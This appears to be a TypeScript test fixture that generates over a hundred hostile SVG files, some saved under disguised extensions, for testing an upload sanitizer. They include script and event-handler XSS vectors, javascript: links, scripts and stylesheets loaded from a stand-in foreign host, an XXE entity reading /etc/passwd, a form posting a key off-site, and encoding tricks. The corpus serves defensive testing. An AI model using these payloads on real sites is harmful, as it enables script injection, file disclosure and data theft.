/** SVG files that want to be more than pictures: more than a hundred ways to run, to load, or to pass for something else. */

import { gzipSync } from "node:zlib";
import { FOREIGN } from "./hostile";

/** Says that it runs, and as whom. */
const RUN = "canary(self.origin)";
const AWAY = `https://${FOREIGN}`;

const NAMESPACE = 'xmlns="http://www.w3.org/2000/svg"';
const LINKS = 'xmlns:xlink="http://www.w3.org/1999/xlink"';

const svg = (inside: string, more = ""): string => `<svg ${NAMESPACE} ${LINKS} width="40" height="20"${more}>${inside}<rect width="9" height="9"/></svg>`;

const HANDLERS = ["onload", "onerror", "onclick", "onbegin", "onend", "onrepeat", "onfocus", "onfocusin", "onactivate", "onmouseover", "onpointerenter", "onresize", "onscroll", "onunload", "onzoom", "ontoggle", "onanimationstart", "ontransitionend", "onbeforematch", "onpageshow"];

const SCRIPTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script type="text/ecmascript"><![CDATA[${RUN}]]></script>`,
  `<script href="data:text/javascript,${RUN}"/>`,
  `<script xlink:href="data:text/javascript,${RUN}"/>`,
  `<script href="${AWAY}/x.js"/>`,
  `<script type="module">import "${AWAY}/m.js"</script>`,
  `<g><g><defs><script>${RUN}</script></defs></g></g>`,
  `<title><script>${RUN}</script></title>`,
  `<text><script>${RUN}</script></text>`,
  `<svg><script>${RUN}</script></svg>`,
  `<s:script xmlns:s="http://www.w3.org/2000/svg">${RUN}</s:script>`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${RUN}</h:script>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `<body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/>`,
  `<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/>`,
  `<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"/>`,
  `<object xmlns="http://www.w3.org/1999/xhtml" data="${AWAY}/o"/>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${AWAY}/s.css"/>`,
  `<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${AWAY}"/>`,
  `<g xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></g>`,
];

const LEADING: readonly string[] = [
  `<a href="javascript:${RUN}"><text y="9">x</text></a>`,
  `<a xlink:href="javascript:${RUN}"><text y="9">x</text></a>`,
  `<a href="java&#9;script:${RUN}"><text y="9">x</text></a>`,
  `<a href="&#106;avascript:${RUN}"><text y="9">x</text></a>`,
  `<a x:href="javascript:${RUN}" xmlns:x="http://www.w3.org/1999/xlink"><text y="9">x</text></a>`,
  `<a href="${AWAY}" target="_top"><text y="9">x</text></a>`,
  `<a><set attributeName="href" to="javascript:${RUN}"/><text y="9">x</text></a>`,
  `<a><animate attributeName="xlink:href" values="javascript:${RUN}" dur="1s"/><text y="9">x</text></a>`,
  `<use href="data:image/svg+xml,&lt;svg id='x' ${NAMESPACE.replaceAll('"', "'")}&gt;&lt;script&gt;${RUN}&lt;/script&gt;&lt;/svg&gt;#x"/>`,
  `<use xlink:href="${AWAY}/s.svg#x"/>`,
  `<use href="#x"/>`,
  `<image href="${AWAY}/i.png" width="9" height="9"/>`,
  `<image xlink:href="${AWAY}/i.png" width="9" height="9"/>`,
  `<image href="data:image/svg+xml,&lt;svg/&gt;" width="9" height="9"/>`,
  `<feImage href="${AWAY}/f.png"/>`,
  `<filter id="f"><feImage xlink:href="${AWAY}/f.png"/></filter><rect filter="url(#f)"/>`,
  `<rect filter="url(${AWAY}/f.svg#a)"/>`,
  `<rect fill="url(${AWAY}/f.svg#a)"/>`,
  `<rect fill="url('//${FOREIGN}/f.svg#a')"/>`,
  `<rect stroke="URL(${AWAY}/f.svg)"/>`,
  `<rect fill="u\\72l(${AWAY}/f.svg)"/>`,
  `<rect mask="url(${AWAY}/m.svg#a)"/>`,
  `<rect clip-path="url(${AWAY}/c.svg#a)"/>`,
  `<path marker-end="url(${AWAY}/m.svg#a)" d="M0 0L9 9"/>`,
  `<rect cursor="url(${AWAY}/c), auto"/>`,
  `<linearGradient id="g" href="${AWAY}/g.svg#a"/><rect fill="url(#g)"/>`,
  `<textPath href="${AWAY}/t.svg#a">x</textPath>`,
  `<mpath href="${AWAY}/m.svg#a"/>`,
  `<g xml:base="${AWAY}/"><rect fill="url(a.svg#b)"/></g>`,
  `<font-face-uri xlink:href="${AWAY}/font"/>`,
  `<color-profile xlink:href="${AWAY}/c.icc"/>`,
  `<cursor xlink:href="${AWAY}/c.png"/>`,
  `<video xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/v"/>`,
  `<audio href="${AWAY}/a" onerror="${RUN}"/>`,
];

const STYLES: readonly string[] = [
  `<style>@import url(${AWAY}/i.css);</style>`,
  `<style>rect{fill:url(${AWAY}/f.svg#a)}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}/f)}text{font-family:x}</style><text y="9">x</text>`,
  `<style type="text/css"><![CDATA[@import "${AWAY}/c.css";]]></style>`,
  `<s:style xmlns:s="http://www.w3.org/2000/svg">@import url(${AWAY}/i.css);</s:style>`,
  `<style xmlns="http://www.w3.org/1999/xhtml">@import url(${AWAY}/h.css);</style>`,
  `<rect style="fill:url(${AWAY}/f.svg#a)"/>`,
  `<rect style="behavior:url(${AWAY}/b)"/>`,
  `<rect style="animation:x 1s" onanimationend="${RUN}"/>`,
];

const FRAMES: readonly string[] = [
  `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${AWAY}/frame"/></foreignObject>`,
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></body></foreignObject>`,
  `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${RUN}"/></foreignObject>`,
  `<foreignObject width="9" height="9"><form xmlns="http://www.w3.org/1999/xhtml" action="${AWAY}"><input name="key"/></form></foreignObject>`,
  `<switch><foreignObject width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml" onclick="${RUN}">x</p></foreignObject></switch>`,
  `<foreignobject><p>x</p></foreignobject>`,
  `<animate attributeName="x" dur="1s" onbegin="${RUN}"/>`,
  `<set attributeName="onload" to="${RUN}"/>`,
  `<animateTransform attributeName="transform" onend="${RUN}" dur="1s"/>`,
  `<animateMotion path="M0 0" dur="1s" onbegin="${RUN}"/>`,
  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  `<listener xmlns="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>`,
  `<g xmlns:ev="http://www.w3.org/2001/xml-events" ev:onload="${RUN}"/>`,
  `<metadata><script>${RUN}</script></metadata>`,
];

const DOCUMENTS: readonly string[] = [
  `<!DOCTYPE svg>${svg("")}`,
  `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${AWAY}/svg11.dtd">${svg("")}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
  `<!DOCTYPE svg [<!ENTITY x "&#60;script>${RUN}&#60;/script>">]>${svg("&x;")}`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg("")}`,
  `<?xml-stylesheet href="${AWAY}/s.css"?>${svg("")}`,
  `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${svg("")}`,
  svg(`<?php echo 1 ?>`),
  `<?xml version="1.0" encoding="UTF-7"?>${svg("+ADw-script+AD4-")}`,
  `<?xml version="1.0" encoding="UTF-16"?>${svg("")}`,
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  `<html><body onload="${RUN}"></body></html>`,
  `<script>${RUN}</script>`,
  `${svg("")}<script>${RUN}</script>`,
  `<x>${svg(`<script>${RUN}</script>`)}</x>`,
  `<SVG ${NAMESPACE} ONLOAD="${RUN}"/>`,
  `<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `<svg onload="${RUN}">`,
  svg("", ` onload="${RUN}"`),
  svg("", ` OnLoad="${RUN}"`),
  svg("", ` onload = '${RUN}'`),
  svg("<g/>", ` xmlns:h="http://www.w3.org/1999/xhtml" h:onload="${RUN}"`),
];

const MATHML = 'xmlns="http://www.w3.org/1998/Math/MathML"';

/** What animates an address or a handler into a harmless shape. */
const ANIMATED: readonly string[] = ["animate", "set", "animateTransform", "animateColor", "discard"].flatMap((element) =>
  ["href", "xlink:href", "onload", "style"].map((name) => `<rect><${element} attributeName="${name}" to="javascript:${RUN}" values="a;javascript:${RUN}" dur="1s" begin="0s"/></rect>`),
);

/** Addresses in the place of a colour, a clip or a font. */
const ADDRESSED: readonly string[] = [
  "url(#a) url(//evil.example)",
  "url(#a)/**/url(//evil.example)",
  "url( #a )",
  "url(#a",
  "url(#)",
  "image(url(x))",
  "cross-fade(url(//evil.example/a),red)",
  "red;}*{background:url(//evil.example)}",
  "@import '//evil.example'",
  "-moz-binding:url(x)",
].flatMap((value) => ["fill", "clip-path", "font-family"].map((name) => `<rect ${name}="${value}"/>`));

/** What parsers read differently: names in other namespaces, entities, ends that are none, marks of a document. */
const AMBIGUOUS: readonly string[] = [
  `<x:script xmlns:x="http://www.w3.org/2000/svg" xmlns:y="z">${RUN}</x:script>`,
  `<rect:script xmlns:rect="http://www.w3.org/1999/xhtml">${RUN}</rect:script>`,
  `<rect xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></rect>`,
  `<text xmlns=""><script>${RUN}</script></text>`,
  `<text xmlns="http://www.w3.org/2000&#47;svg">x</text>`,
  `<math ${MATHML}><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml>`,
  `<text>&nbsp;</text>`,
  `<text>&#0;</text>`,
  `<text>&#xD800;</text>`,
  `<text>&#xFFFE;</text>`,
  `<text>&script;</text>`,
  `<title><![CDATA[ ]]><script>${RUN}</script></title>`,
  `<text><![cdata[<script>${RUN}</script>]]></text>`,
  `</rect><script>${RUN}</script><rect>`,
  `</svg><script>${RUN}</script><svg>`,
  `<rect width="1"onload="${RUN}"/>`,
  `<rect\fonload="${RUN}"/>`,
  `<rect onload="${RUN}" onload="x"/>`,
  `<g xml:onload="${RUN}"/>`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `<?xml version="1.0"?>`,
  `${"<g>".repeat(70)}${"</g>".repeat(70)}`,
];

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Two bytes a character, which a browser takes for text by the mark at its beginning. */
const utf16 = (text: string): Uint8Array => Uint8Array.from(Buffer.from(`\ufeff${text}`, "utf16le"));

/** One file that may not be published. */
export interface Active {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** All of them, under names that end as SVG does. */
export function active(): Active[] {
  const texts = [...HANDLERS.map((handler) => svg(`<rect ${handler}="${RUN}" tabindex="0"/>`)), ...[...SCRIPTS, ...LEADING, ...STYLES, ...FRAMES, ...ANIMATED, ...ADDRESSED, ...AMBIGUOUS].map((inside) => svg(inside)), ...DOCUMENTS];
  const declared = (name: string): Uint8Array => Uint8Array.from(Buffer.from(`<?xml version="1.0" encoding="${name}"?>${svg("<text>\u00e9</text>")}`, "latin1"));
  const encoded = [declared("ISO-8859-1"), declared("UTF-8"), Uint8Array.from(Buffer.from(svg(`<script>${RUN}</script>`), "utf16le")), Uint8Array.from([...utf8("\x89PNG\r\n\x1a\n"), ...utf8(svg(`<script>${RUN}</script>`))]), Uint8Array.from(gzipSync(svg(`<script>${RUN}</script>`))), utf16(svg(`<script>${RUN}</script>`)), utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg(`<script>${RUN}</script>`)}`), utf8(`\ufeff${svg(`<script>${RUN}</script>`)}`), Uint8Array.from([...utf8(svg("")), 0xff])];
  const endings = ["svg", "SVG", "png.svg", "Svg"];
  return [...texts.map(utf8), ...encoded].map((bytes, at) => ({ name: `a${at}.${endings[at % endings.length] ?? "svg"}`, bytes }));
}

/** The same under endings that are not SVG's. */
export function disguised(): Active[] {
  const endings = ["svgz", "svg.png", "png", "jpg", "gif", "webp", "avif", "txt", "pdf", "html", "xhtml", "xml", "js", "md", "bin"];
  const text = svg(`<script>${RUN}</script>`, ` onload="${RUN}"`);
  const page = `<!doctype html><script>${RUN}</script><img src="x" onerror="${RUN}">`;
  return endings.flatMap((ending, at) => [text, page].map((one, kind) => ({ name: `d${at}-${kind}.${ending}`, bytes: utf8(one) })));
}
